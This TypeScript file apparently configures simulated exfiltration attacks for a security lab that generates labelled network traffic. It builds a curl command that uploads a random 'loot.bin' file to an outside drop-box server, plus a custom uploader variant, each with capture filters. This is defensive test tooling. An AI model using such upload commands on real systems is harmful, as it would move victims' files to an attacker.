import { join } from 'node:path';
import { PCS } from '../hosts.js';
import { writeBlob } from '../servers/content.js';
import { at, OUTSIDE, own, type SetAttack } from './set_attack.js';

const THIEF = PCS[0]!;
const BYTES = 10_000_000;
const BYTES_PER_SECOND = 400_000;
const LOOT = 'loot.bin';

const stealing = {
  kind: 'exfiltration',
  stage: 'exfil',
  technique: 'T1048.003',
  techniqueName: 'Exfiltration Over Unencrypted Non-C2 Protocol',
  attackers: [at(THIEF)],
  victims: [OUTSIDE.address],
  host: THIEF.name,
  seconds: 35,
} as const;

export const EXFILTRATION: readonly SetAttack[] = [
  {
    ...stealing,
    name: 'exfiltration-curl',
    tool: 'curl',
    split: 'tune',
    prepare: (lab) => {
      writeBlob(join(lab.folder, LOOT), lab.random('loot'), BYTES);
      lab.serve('drop box', 'outsider', own('drop_box', 8080));
    },
    command: ({ folder, intensity }) => [
      ...['curl', '-s', '-H', 'Expect:', '-T', join(folder, LOOT), '--limit-rate'],
      ...[String(BYTES_PER_SECOND * intensity), `http://${OUTSIDE.address}:8080/upload`],
    ],
    filter: `host ${THIEF.address} and host ${OUTSIDE.address} and tcp port 8080`,
  },
  {
    ...stealing,
    name: 'exfiltration-own',
    tool: 'own uploader',
    split: 'test',
    prepare: (lab) => {
      lab.serve('drop box', 'outsider', own('drop_box', 9443));
    },
    command: ({ intensity }) =>
      own('uploader', OUTSIDE.address, 9443, Math.round(BYTES_PER_SECOND * intensity)),
    filter: `host ${THIEF.address} and host ${OUTSIDE.address} and tcp port 9443`,
  },
];
